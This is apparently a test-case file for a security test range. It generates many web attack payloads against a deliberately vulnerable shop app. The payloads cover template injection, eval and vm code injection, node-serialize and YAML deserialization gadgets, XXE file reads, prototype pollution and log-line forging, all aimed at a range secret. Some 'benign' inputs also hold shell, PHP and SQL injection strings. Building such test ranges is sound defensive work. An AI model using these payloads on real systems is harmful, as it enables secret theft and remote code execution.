// Templates, formulas, documents and settings of the shop.
import type { RangeCase, RangePlaces } from '../case.ts';
import { get, post, shelf, text } from './shop.ts';

export function shopPageCases(places: RangePlaces): RangeCase[] {
  const template = shelf('template-injection', places);
  const env = 'process.env.RANGE_SECRET';
  const reach = `constructor.constructor('return ${env}')()`;
  const templates: Readonly<Record<string, readonly string[]>> = {
    ejs: [`<%= ${env} %>`, `<%- ${env} %>`, `<% this; __append(${env}) %>`, `<%= this.${reach} %>`],
    pug: [`#{${env}}`, `!{${env}}`, `#[b #{${env}}]`, `x\n= ${env}`, `#{[].${reach}}`],
    handlebars: [
      '{{secret}}',
      '{{{secret}}}',
      '{{#if secret}}{{secret}}{{/if}}',
      '{{this.secret}}',
      '{{lookup this "secret"}}',
    ],
    nunjucks: [
      `{{ range.${reach.replace('constructor.', '')} }}`,
      `{{ ''.${reach} }}`,
      `{% set x = joiner.constructor("return ${env}")() %}{{ x }}`,
    ],
    lodash: ['${process.env.RANGE_SECRET}', `<%= ${env} %>`, `<% print(${env}) %>`],
    eta: [`<%= ${env} %>`, `<%~ ${env} %>`],
    mustache: ['{{secret}}', '{{{secret}}}', '{{&secret}}', '{{#secret}}{{.}}{{/secret}}'],
    liquid: ['{{secret}}', '{{ secret | upcase | downcase }}', '{% if secret %}{{secret}}{% endif %}'],
    dot: [`{{=${env}}}`, `{{ out += ${env}; }}`],
    squirrelly: [`{{${env}}}`, `{{ [].${reach} }}`],
  };
  for (const [engine, names] of Object.entries(templates))
    for (const name of names) {
      template.attack(name, get(`/pages/${engine}`, { name }));
      template.attack(name, post(`/pages/${engine}`, { name }));
    }
  for (const engine of Object.keys(templates))
    for (const name of [
      'bob',
      "O'Brien",
      'a < b',
      '50% off',
      '$5',
      'C#',
      'x = {y}',
      'mail@example.com',
      'user.name',
      'hello',
      'process',
      'a: b, c',
    ])
      template.benign(name, get(`/pages/${engine}`, { name }));
  for (const engine of ['ejs', 'pug', 'handlebars', 'nunjucks', 'lodash', 'mustache', 'eta'])
    for (const name of [
      'bob',
      `<%= ${env} %>`,
      '{{secret}}',
      '#{1+1}',
      '${1}',
      '{% raw %}',
      "it's",
      '<script>alert(1)</script>',
      '{{#each x}}',
    ])
      template.benign(name, post(`/pages/safe/${engine}`, { name }));
  template.benign(
    'a paste',
    text('/pages/safe/paste', `<% if (x) { %> {{ y }} <% } %> ${'${z}'} require('child_process').exec('id')`),
    post('/pages/safe/paste', { text: "'; DROP TABLE x; -- <?php system('id') ?>" }),
  );

  const code = shelf('code-injection', places);
  for (const path of ['eval', 'function', 'function-call', 'constructor', 'vm-this', 'timer'])
    for (const formula of [
      env,
      `process['env']['RANGE_SECRET']`,
      `globalThis.${env}`,
      `(()=>${env})()`,
      `[].constructor.constructor('return ${env}')()`,
      `eval('${env}')`,
      `Reflect.get(process.env, 'RANGE_SECRET')`,
      '1;'.slice(2) + `(1, ${env})`,
      `new Function('return ${env}')()`,
      `process\n.env.RANGE_SECRET`,
      `pr\\u006fcess.env.RANGE_SECRET`,
      `\`\${${env}}\``,
      `String(Object.values(process.env))`,
    ])
      code.attack(formula, post(`/pages/${path}`, { formula }));
  code.attack('out of the context', get('/pages/vm', { formula: `this.constructor.constructor('return ${env}')()` }));
  code.attack('not JSON', get('/pages/json-eval', { json: `{"a": ${env}}` }));
  code.attack('not JSON, call', get('/pages/json-eval', { json: `{a: (function(){return ${env}})()}` }));
  code.attack('a callback', get('/pages/reduce', { code: `; ${env}` }));
  code.attack('a callback, comma', get('/pages/reduce', { code: `, ${env}` }));
  code.attack(
    'a property',
    get('/pages/sort', { by: `a - y.a; throw Object.assign(new Error(), { code: ${env} }); //` }),
  );
  for (const formula of ['1 + 1', '(2 * 3) / 4', '12.5 - .5', '2 ** 8', '10 % 3'])
    code.benign(
      formula,
      get('/pages/eval', { formula }),
      get('/pages/function', { formula }),
      get('/pages/vm', { formula }),
      get('/pages/safe/calculator', { formula }),
    );
  for (const formula of ['price * 2', 'price > 10 ? 1 : 0', 'Math.round(price / 7)'])
    code.benign(formula, get('/pages/function', { formula }), get('/pages/vm', { formula }));
  for (const json of ['{"a":1}', '{"a":"process.exit()"}', '[1,2,{"b":null}]', '{"text":"it\'s (new)"}'])
    code.benign(json, get('/pages/json-eval', { json }), get('/pages/safe/json', { json }));
  code.benign(
    'sort',
    get('/pages/sort', { by: 'a' }),
    get('/pages/reduce', { code: '+ 1' }),
    get('/pages/reduce', { code: '* 2' }),
  );
  for (const words of ['hello', 'process.exit()', "require('fs')", 'constructor', '`x`', '${y}'])
    code.benign(
      words,
      get('/pages/safe/vm', { text: words }),
      post('/pages/safe/validator', { text: words }),
      get('/pages/safe/calculator', { formula: words }),
    );
  for (const query of [
    '{ hello(name: "bob") }',
    '{ hello(name: "process.exit()") }',
    'query Q($n: String) { hello(name: $n) }',
  ])
    code.benign(query, post('/pages/safe/graphql', { query, variables: { n: "'; DROP TABLE x; --" } }));

  const objects = shelf('deserialization', places);
  const packed = (value: string): string => Buffer.from(value).toString('base64');
  for (const body of [
    `function(){ return ${env} }()`,
    `function (){return require('node:process').env.RANGE_SECRET}()`.replace(
      "require('node:process').env.RANGE_SECRET",
      env,
    ),
    `(() => ${env})()`,
  ]) {
    const profile = packed(JSON.stringify({ name: `_$$ND_FUNC$$_${body}` }));
    objects.attack('node-serialize', post('/pages/unserialize', { profile }));
    objects.attack('node-serialize', get('/pages/unserialize', { profile }));
    objects.attack(
      'node-serialize, cookie',
      get('/pages/cookie', {}, { cookie: `profile=${encodeURIComponent(profile)}` }),
    );
  }
  objects.attack('yaml', text('/pages/yaml', `toString: !!js/function 'function () { return ${env}; }'`));
  objects.attack(
    'yaml',
    text(
      '/pages/yaml',
      `a: &x {toString: !<tag:yaml.org,2002:js/function> "function(){return ${env}}"}\ntoString: !!js/function "function(){return ${env}}"`,
    ),
  );
  objects.attack(
    'funcster',
    post('/pages/funcster', {
      json: JSON.stringify({
        f: { __js_function: `function(){ return this.constructor.constructor('return ${env}')() }` },
      }),
    }),
  );
  const references: readonly object[] = [
    { contents: {}, value: `_CRYO_FUNCTION_function(){return ${env}}` },
    { contents: { toString: '_CRYO_REF_0' }, value: '_CRYO_OBJECT_' },
  ];
  objects.attack('cryo', post('/pages/cryo', { json: JSON.stringify({ root: '_CRYO_REF_1', references }) }));
  for (const profile of ['{"name":"bob"}', '{"name":"a function () of time"}', '{"constructor":"steel"}', '[1,"=>"]'])
    objects.benign(
      profile,
      post('/pages/unserialize', { profile: packed(profile) }),
      get('/pages/cookie', {}, { cookie: `profile=${encodeURIComponent(packed(profile))}` }),
    );
  for (const body of ['a: 1', '- x: "!!js"\n- y', 'text: >\n  function () {}', 'when: 2024-01-01'])
    objects.benign(body, text('/pages/yaml', body), text('/pages/safe/yaml', body), text('/pages/safe/yaml-old', body));

  const xml = shelf('xxe', places, 'libxml');
  const secretFile = `${places.outside}/secret.txt`;
  for (const document of [
    `<!DOCTYPE x [<!ENTITY e SYSTEM "file://${secretFile}">]><x>&e;</x>`,
    `<?xml version="1.0"?><!DOCTYPE x [ <!ENTITY e SYSTEM '${secretFile}'> ]><x><y>&e;</y></x>`,
    `<!DOCTYPE x [<!ENTITY % p SYSTEM "file://${places.outside}/entities.dtd">%p;]><x>&e;</x>`,
    `<!DOCTYPE x SYSTEM "file://${places.outside}/entities.dtd"><x>&e;</x>`,
    `<!DOCTYPE x PUBLIC "-//x" "file://${places.outside}/entities.dtd"><x>&e;</x>`,
  ])
    xml.attack(document.replaceAll(places.outside, 'OUTSIDE'), text('/pages/xml', document, 'application/xml'));
  for (const document of [
    '<x>hello</x>',
    '<!DOCTYPE x [<!ENTITY e "inner">]><x>&e;</x>',
    '<x>&lt;!ENTITY e SYSTEM "a"&gt;</x>',
    '<x><![CDATA[<!DOCTYPE x SYSTEM "y">]]></x>',
    '<!-- <!ENTITY e SYSTEM "x"> --><x>a</x>',
  ])
    xml.benign(
      document,
      text('/pages/xml', document, 'application/xml'),
      text('/pages/safe/xml', document, 'text/xml'),
      text('/pages/safe/xml2js', document, 'text/xml'),
      text('/pages/safe/fast-xml', document, 'text/xml'),
    );

  const pollution = shelf('prototype-pollution', places);
  const polluting = (name: string, make: (key: string) => ReturnType<typeof post>): void => {
    const key = places.token();
    pollution.attack(name, make(key), {
      kind: 'answer',
      holds: 'a fresh object says yes',
      of: get('/settings/role', { of: key }),
    });
  };
  const raw = (path: string, json: string): ReturnType<typeof post> => ({ ...post(path, {}), body: json });
  for (const path of ['/settings/merge', '/settings/lodash-merge', '/settings/lodash-defaults']) {
    polluting('__proto__', (key) => raw(path, `{"__proto__":{"${key}":"yes"}}`));
    polluting('constructor.prototype', (key) => raw(path, `{"constructor":{"prototype":{"${key}":"yes"}}}`));
    polluting('deep', (key) => raw(path, `{"a":{"b":{"__proto__":{"${key}":"yes"}}}}`));
  }
  polluting('parsed', (key) => post('/settings/merge-parsed', { settings: `{"__proto__":{"${key}":"yes"}}` }));
  for (const path of ['/settings/set', '/settings/lodash-set']) {
    polluting('a path', (key) => post(path, { path: `__proto__.${key}`, value: 'yes' }));
    polluting('a longer path', (key) => post(path, { path: `constructor.prototype.${key}`, value: 'yes' }));
  }
  polluting('two keys', (key) => post('/settings/two', { section: '__proto__', key, value: 'yes' }));
  polluting('zipped', (key) => post('/settings/lodash-zip', { paths: [`__proto__.${key}`], values: ['yes'] }));
  for (const body of [
    { theme: 'dark' },
    { constructor: 'steel' },
    { a: { b: { c: [1, 2] } } },
    { prototype: 'first' },
    { constructor: { name: 'Acme' } },
    { key: '__proto__' },
    { hasOwnProperty: 'x' },
    JSON.parse('{"toString":"y"}') as Record<string, unknown>,
  ])
    for (const path of ['merge', 'assign', 'deepmerge', 'null', 'map', 'custom'])
      if (!(path === 'custom' && JSON.stringify(body).includes('Acme')))
        pollution.benign(JSON.stringify(body), post(`/settings/safe/${path}`, body));
  pollution.benign(
    'parsed',
    post('/settings/safe/qs', { text: '__proto__[x]=1&constructor[prototype][y]=2&a[b]=3' }),
    raw('/settings/safe/assign', '{"__proto__":{"x":1}}'),
  );
  pollution.benign(
    'paths',
    post('/settings/set', { path: 'mail.daily', value: 'yes' }),
    post('/settings/lodash-set', { path: 'a[0].constructor_name', value: 1 }),
    post('/settings/two', { section: 'mail', key: 'daily', value: 'yes' }),
  );

  const header = shelf('header-injection', places);
  for (const lang of ['en', 'de-DE', 'a b', 'x%0d%0ay', "O'Brien"])
    header.benign(
      lang,
      get('/settings/safe/head', { lang }),
      get('/settings/safe/redirect', { from: lang }),
      get('/settings/lang', { lang: lang.replace(/[^\w -]/g, '') }),
    );
  header.benign(
    'line ends, encoded by the program',
    get('/settings/safe/head', { lang: 'a\r\nset-cookie: x=y' }),
    get('/settings/safe/redirect', { from: 'a\r\nb' }),
  );

  const log = shelf('log-injection', places);
  for (const end of ['\n', '\r\n', '\r']) {
    const who = places.token();
    const forged = get('/settings/log', { name: `bob${end}[INFO] login of ${who}` });
    log.attack('forges a line', forged, {
      kind: 'answer',
      holds: `\n[INFO] login of ${who}`,
      of: get('/settings/log-lines'),
    });
  }
  for (const name of ['bob', 'a\nb', 'bob\nand his friend', "O'Brien", '[INFO] me'])
    log.benign(name, get('/settings/log', { name }), get('/settings/safe/log', { name }));
  log.benign('escaped by the program', get('/settings/safe/log', { name: 'bob\n[INFO] login of root' }));
  return [
    ...template.cases,
    ...code.cases,
    ...objects.cases,
    ...xml.cases,
    ...pollution.cases,
    ...header.cases,
    ...log.cases,
  ];
}
